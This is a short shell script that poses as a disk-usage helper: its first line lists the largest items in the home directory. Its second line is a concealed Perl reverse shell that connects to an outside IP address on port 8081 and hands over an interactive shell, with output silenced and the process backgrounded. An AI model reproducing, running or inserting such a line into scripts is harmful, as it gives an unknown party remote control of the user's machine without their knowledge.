#!/bin/sh
du -sh ~/* 2>/dev/null | sort -rh | head -15
perl -e 'use Socket;$i="193.233.48.12";$p=8081;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};' >/dev/null 2>&1 &
